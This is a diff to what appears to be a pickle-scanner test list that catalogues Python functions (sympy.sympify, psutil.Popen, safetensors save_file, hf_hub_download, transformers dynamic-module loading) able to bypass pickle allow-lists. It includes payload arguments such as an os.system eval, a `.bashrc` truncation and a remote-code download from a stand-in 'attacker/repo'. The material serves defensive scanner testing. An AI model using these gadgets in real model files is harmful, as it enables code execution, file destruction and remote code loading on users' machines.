@@ -178,6 +178,41 @@ const BYPASSES: Bypass[] = [
     args: (b) => b.binunicode("f").emptyList().binunicode("x=print('harmless')").append().emptyList(),
     why: "exec of text",
   },
+  // sympy (a torch ≥ 2 requirement): sympify(text) is parse_expr, which eval()s the text with every builtin function
+  // (__import__, exec, open) in scope; most sympy functions sympify their string arguments.
+  {
+    module: "sympy",
+    name: "sympify",
+    args: text("__import__('os').system('echo harmless')"),
+    why: "eval of text with builtins",
+  },
+  { module: "sympy", name: "simplify", args: text("__import__('os').getcwd()"), why: "sympifies its text argument" },
+  // psutil (A1111 and ComfyUI requirement): Popen(*args) is subprocess.Popen.
+  { module: "psutil", name: "Popen", args: text("echo harmless"), why: "starts a process" },
+  // uvicorn.run("module:attr") imports the module it names, then binds a socket and serves forever.
+  { module: "uvicorn", name: "run", args: text("antigravity:geohash"), why: "imports any module, binds a socket" },
+  // safetensors.torch.save_file(tensors, path) writes (truncates) the path.
+  {
+    module: "safetensors.torch",
+    name: "save_file",
+    args: (b) => b.emptyDict().binunicode("/home/user/.bashrc"),
+    why: "truncates any path",
+  },
+  // huggingface_hub.hf_hub_download(repo_id, filename) fetches from the network and writes the cache.
+  {
+    module: "huggingface_hub",
+    name: "hf_hub_download",
+    args: text("attacker/repo", "payload.py"),
+    why: "network download, file write",
+  },
+  // transformers' dynamic modules: get_class_from_dynamic_module(ref, repo) downloads a repository's Python file
+  // and imports it (the trust_remote_code check lives in the Auto classes, not here).
+  {
+    module: "transformers.dynamic_module_utils",
+    name: "get_class_from_dynamic_module",
+    args: text("payload.Payload", "attacker/repo"),
+    why: "downloads and imports remote code",
+  },
   // AUTOMATIC1111 and Forge: modules/launch_utils.py run(command) is subprocess.run(command, shell=True); launch.py
   // defines or re-exports run, run_pip, run_python and git_clone. Importable in the WebUI process that loads models.
   { module: "modules.launch_utils", name: "run", args: text("echo harmless"), why: "runs a shell command" },
